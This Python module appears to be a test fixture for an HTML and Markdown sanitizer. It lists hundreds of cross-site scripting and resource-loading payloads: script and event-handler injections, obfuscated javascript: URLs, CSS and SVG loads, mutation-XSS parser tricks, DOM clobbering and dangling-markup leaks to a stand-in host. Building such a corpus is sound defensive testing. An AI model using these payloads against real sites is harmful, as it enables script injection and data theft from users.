"""Content that tries to run code or to load something, by the way in which it tries.

``RUN`` is the code: it asks a server for something, shows a dialog and leaves a mark, in whichever
window it runs. ``AWAY`` is the address that nothing may ask.
"""

from __future__ import annotations

AWAY = "https://away.test/"
RUN = f"new Image().src='{AWAY}ran';window.ran=1;top.ran=1;alert(1)"
_JS = f"javascript:{RUN}"
_COLON = _JS.replace(":", "&colon;", 1)
_TAB = _JS.replace("script", "scr&#9;ipt", 1)
_ENTITY = _JS.replace("j", "&#x6a;", 1)
_DATA = f"data:text/html,<script>{RUN}</script>"
_SVG = f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCriPt >",
    f"<script src={AWAY}x.js></script>",
    f"<script type=module>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x: onerror='{RUN}' alt=\"a\">",
    f'<body onload="{RUN}" onpageshow="{RUN}">',
    f'<svg onload="{RUN}"></svg><svg/onload={RUN.replace(" ", "/**/")}>',
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<p tabindex=0 autofocus onfocus="{RUN}" onanimationstart="{RUN}" style="animation:x">x</p>',
    f'<video src=x onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<video><source onerror="{RUN}"></video>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<p onmouseover="{RUN}" onpointerenter="{RUN}" style="font-size:3rem">hover</p>',
    f'<button popovertarget=x onclick="{RUN}">x</button><p popover id=x onbeforetoggle="{RUN}">',
    f"<<script>{RUN}//<</script>",
    f'<img """><script>{RUN}</script>">',
    f"<script x='>'>{RUN}</script>",
    f"<a\x0conclick={RUN!r}>x</a>",
    f"<p/onclick={RUN!r}/onerror=1>x</p>",
)
"""Scripts and handlers."""

ADDRESSES = tuple(
    f'<a href="{address}">x</a><a xlink:href="{address}">y</a>'
    for address in (
        _JS, _COLON, _TAB, _ENTITY, f" \x01{_JS}", _JS.upper(), _DATA, f"vbscript:{RUN}",
        f"view-source:{_JS}", f"blob:{AWAY}x", f"{_JS}//https://", "//away.test/x",
    )
)  # fmt: skip
"""Addresses of links."""

LOADS = (
    f'<img src="{AWAY}x.png" alt=x>',
    f'<img srcset="{AWAY}x.png 1x, {AWAY}y.png 2x" sizes=100vw>',
    f'<picture><source srcset="{AWAY}x.png"><img alt=x></picture>',
    f"<img src='{_SVG}'>",
    f'<img lowsrc="{AWAY}x" dynsrc="{AWAY}y" longdesc="{AWAY}z" src>',
    f'<video src="{AWAY}x.mp4" poster="{AWAY}x.png" autoplay></video>',
    f'<audio src="{AWAY}x.mp3" autoplay></audio><track src="{AWAY}x.vtt">',
    f'<link rel=stylesheet href="{AWAY}x.css"><link rel=preload as=image href="{AWAY}x">',
    f'<link rel=prefetch href="{AWAY}x"><link rel=dns-prefetch href="{AWAY}">',
    f'<link rel=preconnect href="{AWAY}"><link rel=modulepreload href="{AWAY}x.js">',
    f'<link rel=icon href="{AWAY}x.ico"><link rel=manifest href="{AWAY}x.json">',
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f'<meta http-equiv=refresh content="0;url={_JS}">',
    f'<meta http-equiv=Content-Security-Policy content="default-src *; report-uri {AWAY}">',
    '<meta http-equiv=Set-Cookie content="x=1"><meta name=referrer content=unsafe-url>',
    f'<base href="{AWAY}"><img src="relative.png"><a href="relative">x</a>',
    f'<form action="{AWAY}"><input name=x value=y><button>send</button></form>',
    f'<form id=f></form><button form=f formaction="{_JS}">x</button>',
    f'<input type=image src="{AWAY}x.png"><isindex action="{AWAY}" type=image>',
    f'<object data="{AWAY}x.swf"></object><embed src="{AWAY}x.swf"><applet code="{AWAY}x">',
    f'<object data="{_DATA}"></object><embed src="{_DATA}">',
    f'<iframe src="{AWAY}"></iframe><iframe src="{_JS}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe srcdoc=\"<iframe srcdoc='&lt;script>parent.ran=1&lt;/script>'>\">",
    f'<frameset><frame src="{AWAY}"></frameset><portal src="{AWAY}"></portal>',
    f'<a href="{AWAY}" ping="{AWAY}ping">x</a><area href="{AWAY}" ping="{AWAY}p">',
    f'<table background="{AWAY}x.png"><td background="{AWAY}y.png">x</table>',
    f'<body background="{AWAY}x.png">',
    f"<q cite='{AWAY}q'>x</q><blockquote cite='{AWAY}b'>y</blockquote>",
    f'<img src="{AWAY}?',
    f"<img src='{AWAY}?<p>secret</p>",
    f'<a href="{AWAY}?<b>secret</b><p title="',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}s"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"x":"{AWAY}"}}}}</script>',
    f"<fencedframe src={AWAY}></fencedframe><webview src={AWAY}></webview>",
)
"""Elements that load, send, or leave the page."""

STYLES = (
    f'<p style="background:url({AWAY}x)">x</p>',
    f'<p style="background:u\\72l({AWAY}x)">x</p>',
    f"<p style=\"background:&#117;rl('{AWAY}x')\">x</p>",
    f'<p style="background:ur/**/l({AWAY}x);background-image:URL({AWAY}y)">x</p>',
    f'<p style="list-style:url({AWAY}x);display:list-item;cursor:url({AWAY}y),auto">x</p>',
    f'<p style="border-image:url({AWAY}x) 1;mask:url({AWAY}y);filter:url({AWAY}z#f)">x</p>',
    f"<p style=\"background:image-set('{AWAY}x' 1x);content:url({AWAY}y)\">x</p>",
    f'<p style="--x:url({AWAY}x);background:var(--x)">x</p>',
    f"<p style=\"background:image('{AWAY}x');shape-outside:url({AWAY}y);float:left\">x</p>",
    f'<p style="width:expression({RUN});behavior:url({AWAY}x.htc);-moz-binding:url({AWAY}#x)">',
    f'<p style="background:cross-fade(url({AWAY}x),url({AWAY}y),50%)">x</p>',
    f'<p style="offset-path:url({AWAY}x#p);clip-path:url({AWAY}y#c)">x</p>',
    f"<style>@import '{AWAY}x.css'; p{{background:url({AWAY}y)}}</style><p>x</p>",
    f"<style>@font-face{{font-family:f;src:url({AWAY}f)}}p{{font-family:f}}</style><p>x</p>",
    f"<style>input[value^=a]{{background:url({AWAY}a)}}</style><input value=abc>",
    f"<style>*{{animation:x}}</style><style><!--</style><script>{RUN}</script>-->",
    '<p style="position:fixed;inset:0;z-index:99999;background:#fff">over all</p>',
)
"""Styles that load something or cover the page."""

FOREIGN = (
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><script href="{AWAY}x.js" /></svg>',
    f'<svg><image href="{AWAY}x.png" /><use href="{AWAY}x.svg#a" /><feImage href="{AWAY}y" />',
    f'<svg><a href="{_JS}"><text y=20>x</text></a></svg>',
    f'<svg><a><animate attributeName=href values="{_JS}" /><text y=20>x</text></a></svg>',
    f'<svg><set attributeName=onmouseover to="{RUN}" /><animate onbegin="{RUN}" dur=1s /></svg>',
    f'<svg><foreignObject><iframe src="{_JS}"></iframe><img src=x onerror="{RUN}">',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x><image href='1' onerror='{RUN}'></svg>#x\">",
    f"<svg><style>@import '{AWAY}s.css';</style><style><img src=x onerror=\"{RUN}\"></style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f'<math href="{_JS}"><mi xlink:href="{_JS}">x</mi></math>',
    f'<math><maction actiontype="statusline#{AWAY}" xlink:href="{_JS}">x</maction></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}">',
    f"<?xml-stylesheet href=\"{_JS}\"?><!DOCTYPE x [<!ENTITY y SYSTEM '{AWAY}'>]><x>&y;</x>",
)
"""SVG and MathML."""

MUTATIONS = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN!r}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<p id="</p><img src=x onerror={RUN!r}>">',
    f"<template><script>{RUN}</script></template>",
    f'<template shadowrootmode=open><img src=x onerror="{RUN}">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN!r}>">',
    f'<title><img title="</title><img src=x onerror={RUN!r}>"></title>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN!r}>">',
    f'<select><style></select><img src=x onerror="{RUN}"></style>',
    f'<table><td><svg><desc><td></desc><img src=x onerror="{RUN}">',
    f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}">',
    f'<listing>&lt;img src=x onerror="{RUN}"&gt;</listing><plaintext><img src=x>',
    f'<img alt="`><img src=x onerror={RUN!r}>">',
    f'</div></section></article></li></ol><img src=x onerror="{RUN}">',
    "<div>" * 3000 + f'<svg><style><img src=x onerror="{RUN}">' + "</div>" * 3000,
    f"\x01<scr\x01ipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"\ufeff+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
"""Markup that reads otherwise when it is parsed again."""

NAMES = (
    "<form name=body><input name=firstChild><input name=children></form>",
    "<img name=querySelector><a id=document></a><a id=location name=href>x</a>",
    "<a id=ran></a><a id=ran name=x href=y></a><form id=app><input id=attributes></form>",
    "<iframe name=top></iframe><object name=self></object><embed name=parent>",
    "<p id=__proto__ class=constructor>x</p><input name=cookie><p id=root slot=x part=y is=z>x</p>",
    "<p contenteditable accesskey=1 tabindex=1 autofocus>x</p><dialog open>x</dialog>",
)
"""Names that hide properties of the page."""

MARKUP = (*SCRIPTS, *ADDRESSES, *LOADS, *STYLES, *FOREIGN, *MUTATIONS, *NAMES)

MARKDOWN = (
    f"[x]({_JS.replace(' ', '%20')}) [y](<{_JS}>) [z]({_TAB.replace(' ', '%20')})",
    f"[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) ![z]({_JS.replace(' ', '%20')})",
    f"![x]({AWAY}x.png) ![][ref] [![y]({AWAY}y.png)]({AWAY}z)\n\n[ref]: {AWAY}ref.png",
    f'![x"onerror="{RUN}](y) ![x]({AWAY}x.png "title\\" onerror=\\"{RUN}")',
    f"<{_JS}> <{AWAY}auto> {AWAY}bare www.away.test",
    f"```html\n<script>{RUN}</script>\n``` ```\n\n`<img src=x onerror={RUN}>`",
    f'``` "><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    f'| a | b |\n|---|---|\n| <img src=x onerror="{RUN}"> | ![x]({AWAY}t.png) |',
    f'# <svg onload="{RUN}">\n\n> <iframe src="{_JS}">\n\n- [ ] <input onfocus="{RUN}" autofocus>',
    f"![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](<{_SVG}>) ![z](//away.test/z.png)",
    f"[x]: {_JS}\n\n[x] [X][] [^1]\n\n[^1]: <script>{RUN}</script>",
    "&#106;avascript: [x](&#106;avascript&colon;alert(1)) [y](java\nscript:alert(1))",
    "[" * 2000 + "x" + "](y)" * 2000 + "**" * 2000 + "<!--" * 500 + "_" * 2001,
)
"""Markdown; all markup is tried as Markdown as well."""

WORDS = (
    f'"><img src=x onerror="{RUN}">',
    f"'><script>{RUN}</script>",
    f"{_JS}",
    f'<svg onload="{RUN}">',
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    "__proto__",
    "constructor",
    f"</script><script>{RUN}</script><style>@import '{AWAY}w.css'</style>",
)
"""Short texts: names of fields and speakers, labels of options, badges, titles."""
